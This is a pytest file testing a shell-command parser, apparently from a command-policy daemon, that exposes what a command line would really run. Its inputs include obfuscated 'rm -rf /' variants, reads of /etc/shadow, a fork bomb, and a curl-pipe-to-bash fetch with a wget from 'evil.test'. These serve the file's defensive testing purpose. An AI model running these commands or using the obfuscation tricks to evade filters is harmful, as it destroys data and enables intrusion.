"""Shell parsing: every command a line would really run, normalised."""

from __future__ import annotations

import pytest

from rampartd.policy.shell.parse import Component, ParsedCommand, parse_command


def texts(command: str) -> list[str]:
    parsed = parse_command(command)
    assert parsed.problem is None, parsed.problem
    return [c.text for c in parsed.components]


@pytest.mark.parametrize(("command", "expected"), [
    ("git status", ["git status"]),
    ("  git   status  ", ["git status"]),
    ("a && b || c; d & e", ["a", "b", "c", "d", "e"]),
    ("a\nb\n\nc", ["a", "b", "c"]),
    ("ls | grep x | wc -l", ["ls", "grep x", "wc -l"]),
    ("'r'm -rf /", ["rm -rf /"]),
    ("r\\m -rf /", ["rm -rf /"]),
    ('"rm" -rf "/"', ["rm -rf /"]),
    ("$'\\x72\\x6d' x", ["rm x"]),
    ("/usr/bin/rm x", ["rm x"]),
    ("FOO=1 BAR='a b' rm x", ["rm x"]),
    ("env -i A=1 nohup timeout -s KILL 5 nice -n 10 command rm x", ["rm x"]),
    ("sudo -u root -- doas exec rm x", ["rm x"]),
    ("echo $(rm x) `ls y`", ["rm x", "ls y", "echo $( rm x ) $( ls y )"]),
    ("echo \"$(rm x)\"", ["rm x", "echo $( rm x )"]),
    ("diff <(ls a) >(cat)", ["ls a", "cat", "diff <( ls a ) >( cat )"]),
    ("bash -c 'rm x; ls'", ["rm x", "ls"]),
    ("sh -ec \"cd /tmp && rm x\"", ["cd /tmp", "rm x"]),
    ("eval 'rm x'", ["rm x"]),
    ("su -c 'rm x' root", ["rm x"]),
    ("watch -n 5 'ls -la'", ["ls -la"]),
    ("env -S 'rm x'", ["rm x"]),
    ("X=rm; $X x", ["rm x"]),
    ("X='rm -rf'; $X /", ["rm -rf /"]),
    ("{rm,-rf,/}", ["rm -rf /"]),
    ("cat /etc/{passwd,shadow}", ["cat /etc/passwd /etc/shadow"]),
    ("rm -rf $HOME", ["rm -rf ~"]),
    ("find . -name x -exec rm -f {} \\;", ["find . -name x -exec rm -f {} ;", "rm -f {}"]),
    ("ls | xargs -n1 rm", ["ls", "rm"]),
    ("(cd a && make) > log 2>&1", ["cd a", "make", "> log 2>& 1"]),
    ("(cat) < in.txt", ["cat", "< in.txt"]),  # a subshell's redirections count
    ("for d in a b; do (cd $d && make); done", ["cd a b", "make"]),
    ("if x; then (rm y); fi", ["x", "rm y"]),
    ("time -p (make)", ["make"]),
    ("! (false)", ["false"]),
    ("{ ls; rm x; }", ["ls", "rm x"]),
    ("if [ -f x ]; then rm x; else ls; fi", ["[ -f x ]", "rm x", "ls"]),
    ("for f in *.py; do rm $f; done", ["rm *.py"]),  # the loop name stands for its words
    ("while true; do sleep 1; done", ["true", "sleep 1"]),
    ("ls # rm -rf /", ["ls"]),
    ("git commit -m 'a && b; c'", ["git commit -m a && b; c"]),
    ("echo hi > out.txt 2>/dev/null", ["echo hi > out.txt 2> /dev/null"]),
    ("echo $((1 + $(rm x)))", ["rm x", "echo $((1 + $(rm x)))"]),
    ("ls \\\n  -la", ["ls -la"]),
    # a function's body runs where it is called (once per call, not inside itself), or at
    # the line's end when never called by name (`trap f EXIT`)
    ("f() { rm x; }; cd a && f", ["cd a", "f", "rm x"]),
    ("function f { g; }; g() ( ls ); f; f", ["f", "g", "ls", "f", "g", "ls"]),
    ("f()\n{\n  make\n} > log\ntrap f EXIT", ["> log", "trap f EXIT", "f", "make"]),
    ("g() { ls; }; h() { cat x; }; trap g EXIT", ["trap g EXIT", "g", "ls", "cat x"]),
    ("function g { function g { rm x\n}\n}", ["rm x"]),  # a body defining another
    # a trap's action and an alias's value are commands of the line
    ("trap 'rm x' EXIT; alias y='cat z'", ["trap rm x EXIT", "rm x", "alias y=cat z", "cat z"]),
    # with its arguments as `$1`, `$@`…, unless they are only known at run time or moved
    ("run() { echo \"+ $*\"; \"$@\"; }; run make -j2", ["run make -j2", "echo + make -j2",
                                                        "make -j2"]),
    ("f() { cat \"${2}\" $#; }; f a b", ["f a b", "cat b 2"]),
    ("f() { rm $1; }; f $X", ["f ${X}", "rm $1"]),
    ("f() { shift; rm $1; }; f a b", ["f a b", "shift", "rm $1"]),
    # every clause of a case statement counts as run, and the redirections after it
    ("case $x in a) ls;; b|c) rm y;& (d) :;;& esac > log", ["ls", "rm y", ":", "> log"]),
    ("case $(cat f) in\n  x*) ;;\n  # note\n  *) make ;;\nesac", ["cat f", "make"]),
    ("command -v rm", ["command -v rm"]),
    ("sudo -v", ["sudo -v"]),
])
def test_components(command: str, expected: list[str]) -> None:
    assert texts(command) == expected


def test_double_parenthesis_is_arithmetic_when_it_reads_as_arithmetic() -> None:
    # bash and dash evaluate `cat /etc/shadow` here as a division of three variables.
    parsed = parse_command("echo $(( cat /etc/shadow ))")
    assert [c.text for c in parsed.components] == ["echo $(( cat /etc/shadow ))"]
    assert parsed.problem is None
    # What reads as no arithmetic may run as a substitution holding a subshell (bash does so
    # when a lone ")" closes it), so its commands count, and the line has a problem.
    for command in ("echo $((rm x) )", "echo $(( (rm x) ))"):
        parsed = parse_command(command)
        assert "rm x" in [c.text for c in parsed.components]
        assert parsed.problem is not None


def test_heredocs_and_herestrings_fed_to_shells_are_parsed() -> None:
    assert "rm -rf /" in texts("bash <<EOF\nrm -rf /\nEOF\necho done")
    assert "rm -rf /" in texts("sh <<-'X'\n\trm -rf /\n\tX")
    assert "rm x" in texts("bash <<< 'rm x'")
    # Data heredocs stay data, but unquoted ones still run their substitutions.
    assert texts("cat <<'EOF' > f\n$(rm x)\nEOF") == ["cat << EOF > f"]
    assert "rm x" in texts("cat <<EOF > f\n$(rm x)\nEOF")


def test_echo_piped_to_a_shell_is_parsed() -> None:
    parsed = parse_command("echo 'rm -rf /' | sh")
    assert "rm -rf /" in [c.text for c in parsed.components]
    assert parsed.pipelines == ("echo rm -rf / | sh",)


def test_forms_keep_launchers() -> None:
    comp = parse_command("FOO=1 nohup sudo -u root rm x").components[0]
    assert comp.text == "rm x" and comp.program == "rm"
    assert comp.forms == ("rm x", "nohup sudo -u root rm x", "sudo -u root rm x")
    assert comp.launchers == ("nohup", "sudo")
    inner = parse_command("sudo bash -c 'rm x'").components[0]
    assert inner.forms == ("rm x", "sudo rm x")


@pytest.mark.parametrize("command", [
    "env -iu FOO rm -rf ~", "strace -fo /tmp/log rm -rf ~", "sudo -iu root rm -rf ~",
    "sudo -Eu root rm -rf ~", "timeout -ks9 5 rm -rf ~",
])
def test_a_launchers_clustered_option_takes_the_next_word_as_its_value(command: str) -> None:
    comp = parse_command(command).components[0]
    assert comp.argv == ("rm", "-rf", "~")
    # an earlier value letter takes the rest of the word: the program is the next word
    assert parse_command("nice -n5 rm x").components[0].argv == ("rm", "x")


def test_entr_runs_its_command_whenever_a_file_changes() -> None:
    assert [c.argv for c in parse_command("ls | entr -c rm -rf ~").components] == [
        ("ls",), ("rm", "-rf", "~")]
    # with -s its one argument is a shell command line, read as one
    assert parse_command("ls | entr -s 'rm -rf ~'").components[-1].argv == ("rm", "-rf", "~")


def test_pipelines_and_urls() -> None:
    parsed = parse_command("curl -fsSL https://Get.Example/x | sudo bash && wget evil.test/y")
    assert parsed.pipelines == ("curl -fsSL https://Get.Example/x | bash",)
    assert parsed.urls == ("https://Get.Example/x", "http://evil.test/y")


@pytest.mark.parametrize(("command", "reason"), [
    ("echo 'open", "unterminated single quote"),
    ('echo "open', "unterminated double quote"),
    ("echo $(ls", "missing ')'"),
    ("echo `ls", "unterminated backquote"),
    ("ls &&", "expected a command"),
    ("; ls", "unexpected ';'"),
    ("ls >", "without a target"),
    ("case x in a) ls;; b) rm", "missing 'esac'"),
    ("case x a) ls;; esac", "expected 'in'"),
    ("esac", "'esac' is not supported"),
    ("f() { rm x", "missing '}'"),
    ("f(x) { rm x; }", "not supported"),
    ("bomb(){ bomb|bomb& }; bomb", "calls itself"),
    ("f() { g; }; g() { f; }", "calls itself"),
    ("a=(1 2)", "not supported"),
    ("$CMD x", "only known at run time"),
    ("$(echo rm) x", "only known at run time"),
    ("/???/r? x", "only known at run time"),
    ("sh -c \"$X\"", "only known at run time"),
    ("bash -c", "without a command"),
    ("x" * 70000, "longer than 64 KiB"),
    ("ls\x00", "NUL"),
    ("$(" * 200 + ")" * 200, "nested too deeply"),
])
def test_problems_are_reported(command: str, reason: str) -> None:
    problem = parse_command(command).problem
    assert problem is not None and reason in problem


def test_partial_components_survive_a_problem() -> None:
    parsed = parse_command("rm -rf / && echo 'open")
    assert parsed.problem is not None
    assert [c.text for c in parsed.components] == ["rm -rf /"]


@pytest.mark.timeout(10)
@pytest.mark.parametrize("text", ["for x < y", "for x in a (b)", "for x in a > b; do ls; done"])
def test_a_broken_loop_header_fails_closed_instead_of_hanging(text: str) -> None:
    parsed = parse_command(text)
    assert parsed.problem is not None and parsed.components == ()


def test_a_plain_program_s_result_has_every_field() -> None:
    # The plain path builds these tuples directly, field by field, for speed.
    parsed = parse_command("ls -la src")
    comp = Component(("ls", "-la", "src"), "ls -la src", ("ls -la src",))
    assert parsed == ParsedCommand("ls -la src", (comp,), (), (), None)
    assert len(parsed) == len(ParsedCommand._fields)
    assert len(parsed.components[0]) == len(Component._fields)
    assert parse_command("A=1 ls").components[0].assigns == ("A=1",)
